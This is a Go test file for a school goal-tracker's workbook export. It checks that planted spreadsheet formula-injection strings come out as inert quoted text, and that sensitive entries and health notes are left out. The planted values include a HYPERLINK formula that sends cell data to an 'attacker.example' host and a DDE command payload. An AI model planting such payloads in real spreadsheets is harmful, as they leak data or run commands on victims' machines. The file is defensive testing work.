package export_test

import (
	"context"
	"encoding/xml"
	"fmt"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"goaltracker/app/export"
)

// TestWorkbookWritesNoFormulas plants text that spreadsheets take for
// formulas in every kind of field a workbook shows, and checks that the
// reopened workbook has no formula at all, shows each text as written,
// and marks each with the quote prefix that keeps it text when edited.
func TestWorkbookWritesNoFormulas(t *testing.T) {
	t.Parallel()
	s := newSetup(t)
	ctx := context.Background()
	var entry, goal, student, author, program int64
	err := s.d.QueryRowContext(ctx, `SELECT pe.id_progress_event, pe.id_goal, pe.id_student,
			pe.id_user_created, st.id_program
		FROM progress_event AS pe JOIN student AS st USING (id_student)
		JOIN reporting_period AS rp ON rp.year = ? AND rp.period = ?
			AND pe.occurred_on BETWEEN rp.starts_on AND rp.ends_on
		JOIN progress_report AS pr ON pr.id_goal = pe.id_goal AND pr.year = rp.year AND pr.period = rp.period
		WHERE pe.is_sensitive IS FALSE ORDER BY pe.id_progress_event LIMIT 1`,
		s.scope.Year, s.scope.Period).Scan(&entry, &goal, &student, &author, &program)
	if err != nil {
		t.Fatalf("pick an entry: %v", err)
	}
	planted := []struct{ query, value string }{
		{`UPDATE goal SET title = ? WHERE id_goal = ?`, `=HYPERLINK("http://attacker.example/?d="&A2,"Open")`},
		{`UPDATE goal SET category = ? WHERE id_goal = ?`, "\r=1+1"},
		{`UPDATE progress_report SET summary = ? WHERE id_goal = ?`, "+1+1 entries"},
		{`UPDATE progress_event SET content = ? WHERE id_progress_event = ?`, `=cmd|' /C calc'!A0`},
		{`UPDATE "user" SET name = ? WHERE id_user = ?`, "@SUM(1+1)"},
		{`UPDATE student SET identifier = ? WHERE id_student = ?`, "\t=2+2"},
		{`UPDATE program SET name = ? WHERE id_program = ?`, "-3+3 Program"},
	}
	ids := []int64{goal, goal, goal, entry, author, student, program}
	for i, p := range planted {
		if _, err := s.d.ExecContext(ctx, p.query, p.value, ids[i]); err != nil {
			t.Fatalf("plant %q: %v", p.value, err)
		}
	}
	if _, err := s.d.ExecContext(ctx, `UPDATE school_district SET name = '=1+2'`); err != nil {
		t.Fatalf("plant district name: %v", err)
	}

	b, _ := s.build(t, s.scope)
	f := open(t, b)
	p := parts(t, b)
	for name, part := range p {
		if strings.HasPrefix(name, "xl/worksheets/sheet") && (strings.Contains(part, "<f>") ||
			strings.Contains(part, "<f ")) {
			t.Errorf("%s holds a formula", name)
		}
	}
	quotedXfs := quotePrefixed(t, p["xl/styles.xml"])

	found := map[string]bool{}
	for _, sheet := range f.GetSheetList() {
		for r, row := range rows(t, f, sheet) {
			for c, value := range row {
				cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
				if formula, _ := f.GetCellFormula(sheet, cell); formula != "" {
					t.Errorf("%s!%s has the formula %q", sheet, cell, formula)
				}
				kind, _ := f.GetCellType(sheet, cell)
				isText := kind == excelize.CellTypeInlineString || kind == excelize.CellTypeSharedString
				if !isText || value == "" || !strings.ContainsAny(value[:1], "=+-@\t\r") {
					continue // a signed number such as a trend shows as +0.50
				}
				found[value] = true
				if style, _ := f.GetCellStyle(sheet, cell); !quotedXfs[style] {
					t.Errorf("%s!%s %q has style %d, without the quote prefix", sheet, cell, value, style)
				}
			}
		}
	}
	for _, p := range append(planted, struct{ query, value string }{value: "=1+2"}) {
		if !found[p.value] {
			t.Errorf("%q is not shown as written in any cell", p.value)
		}
	}
}

// quotePrefixed returns the cell formats of styles.xml that set the
// quote prefix, by index.
func quotePrefixed(t *testing.T, styles string) map[int]bool {
	t.Helper()
	var sheet struct {
		Xfs []struct {
			QuotePrefix string `xml:"quotePrefix,attr"`
		} `xml:"cellXfs>xf"`
	}
	if err := xml.Unmarshal([]byte(styles), &sheet); err != nil {
		t.Fatalf("read styles: %v", err)
	}
	out := map[int]bool{}
	for i, xf := range sheet.Xfs {
		out[i] = xf.QuotePrefix == "1" || xf.QuotePrefix == "true"
	}
	return out
}

// TestWorkbookLeavesOutSensitiveContent marks the content of every
// sensitive entry and health note, and of an entry whose sensitivity is
// unknown, and checks that no part of the workbook holds any of it.
func TestWorkbookLeavesOutSensitiveContent(t *testing.T) {
	t.Parallel()
	s := newSetup(t)
	ctx := context.Background()
	for _, q := range []string{
		`UPDATE progress_event SET content = 'SECRET-ENTRY-' || id_progress_event || ' ' || content
			WHERE is_sensitive`,
		`UPDATE health_note SET content = 'SECRET-HEALTH-' || id_health_note || ' ' || content`,
		`UPDATE progress_event SET is_sensitive = NULL, content = 'SECRET-UNFLAGGED'
			WHERE id_progress_event = (SELECT min(id_progress_event) FROM progress_event
				WHERE NOT is_sensitive AND occurred_on >= (SELECT starts_on FROM reporting_period
					WHERE year = ? AND period = ?))`,
	} {
		if _, err := s.d.ExecContext(ctx, q, s.scope.Year, s.scope.Period); err != nil {
			t.Fatalf("mark sensitive content: %v", err)
		}
	}
	inPeriod := `FROM progress_event AS pe JOIN reporting_period AS rp ON rp.year = ? AND rp.period = ?
		AND pe.occurred_on BETWEEN rp.starts_on AND rp.ends_on`
	leftOut := s.count(t, `SELECT count(*) `+inPeriod+` WHERE pe.is_sensitive IS NOT FALSE`,
		s.scope.Year, s.scope.Period)
	listed := s.count(t, `SELECT count(*) `+inPeriod+` WHERE pe.is_sensitive IS FALSE`,
		s.scope.Year, s.scope.Period)
	notes := s.count(t, `SELECT count(*) FROM health_note`)
	if leftOut < 3 || notes == 0 {
		t.Fatalf("the period has %d sensitive entries and the demo %d health notes; too few to test with",
			leftOut, notes)
	}

	b, stats := s.build(t, s.scope)
	for name, part := range parts(t, b) {
		if i := strings.Index(part, "SECRET-"); i >= 0 {
			t.Errorf("%s holds sensitive content: %q", name, part[i:min(len(part), i+60)])
		}
	}
	if stats.SensitiveLeftOut != leftOut || stats.Entries != listed {
		t.Errorf("stats = %+v, want %d entries listed and %d left out", stats, listed, leftOut)
	}
	about := rows(t, open(t, b), export.SheetAbout)
	if !hasRowPrefix(about, "Left out: sensitive entries", fmt.Sprintf("%d entries", leftOut)) ||
		!hasRowPrefix(about, "Left out: health notes", "Health notes are never included") {
		t.Errorf("about sheet does not say what was left out:\n%q", about)
	}
}
